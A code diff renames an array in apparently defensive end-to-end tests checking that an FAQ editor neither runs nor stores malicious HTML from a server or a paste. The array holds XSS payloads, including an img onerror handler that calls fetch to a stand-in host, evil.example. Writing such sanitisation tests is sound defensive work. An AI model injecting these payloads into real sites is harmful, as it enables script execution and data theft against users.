@@ -5,7 +5,7 @@ import { png } from './support/files.ts';
 import { rowOf } from './support/locators.ts';
 import { expect, once, test } from './support/test.ts';
 
-const hostile = [
+const malicious = [
   '<p>Before</p>',
   `<img src=x onerror="window.hacked=true;fetch('http://evil.example/x')">`,
   '<img src="http://evil.example/picture.png">',
@@ -46,7 +46,7 @@ test('an FAQ with a formatted answer is created, shown and edited', async ({ app
 
 test('malicious HTML from a server does not run', async ({ app, page, api, faults }) => {
   const id = await api.create('faq', { name: 'Hostile', description: '<p>Before</p>' });
-  const record = { ...(await api.get('faq', id)), description: hostile };
+  const record = { ...(await api.get('faq', id)), description: malicious };
   faults.answer({
     method: 'GET',
     path: /\/faq\/getById\//,
@@ -77,7 +77,7 @@ test('pasted malicious HTML neither runs nor is stored', async ({ app, page, api
     const clipboardData = new DataTransfer();
     clipboardData.setData('text/html', html);
     editor.dispatchEvent(new ClipboardEvent('paste', { clipboardData, bubbles: true, cancelable: true }));
-  }, hostile);
+  }, malicious);
   await expect(answer).toContainText('After');
   await page.getByRole('button', { name: texts.faq.saveNew }).click();
 
